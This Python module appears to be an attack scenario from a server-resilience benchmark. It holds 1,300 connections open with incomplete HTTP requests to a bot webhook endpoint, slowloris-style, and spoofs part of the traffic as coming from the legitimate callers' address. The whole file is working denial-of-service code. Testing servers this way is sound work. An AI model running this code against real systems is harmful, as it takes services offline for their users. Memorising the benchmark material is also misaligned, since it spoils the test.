"""1,300 connections that never finish their request, kept for as long as the server lets them, then opened again.

A quarter comes from the address of the genuine callers, as if through the same proxy.
"""

import asyncio
from collections import Counter
from itertools import count
from typing import Final

from bench.questions.attack.exchange import HERE
from bench.questions.attack.target import Target

_CONNECTIONS: Final = 1_300
_ORIGINS: Final = (HERE, *(f"127.0.0.{last}" for last in range(2, 32)))
_FROM_HERE: Final = 4
"""One of so many."""
_REST_S: Final = 1.0
_HEAD: Final = "POST /telegram/{bot} HTTP/1.1\r\nHost: bots.example.org\r\n"
_BEGINNINGS: Final = ("", _HEAD, _HEAD + "Content-Length: 1000\r\n\r\n{{")
"""Nothing; half a head; half a body."""


async def attack(target: Target, counts: Counter[str]) -> None:
    beginnings = [beginning.format(bot=target.bot_id).encode() for beginning in _BEGINNINGS]
    async with asyncio.TaskGroup() as group:
        for number in range(_CONNECTIONS):
            origin = _ORIGINS[number % len(_ORIGINS)] if number % _FROM_HERE else HERE
            group.create_task(_hold(target, beginnings[number % len(beginnings)], origin, counts))


async def _hold(target: Target, beginning: bytes, origin: str, counts: Counter[str]) -> None:
    for _ in count():
        counts[await _held(target, beginning, origin)] += 1
        await asyncio.sleep(_REST_S)


async def _held(target: Target, beginning: bytes, origin: str) -> str:
    """How the connection ended, once the server closed it."""
    try:
        reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(origin, 0))
        try:
            writer.write(beginning)
            await reader.read()
        finally:
            writer.close()
    except OSError as error:
        return type(error).__name__
    return "closed by the server"
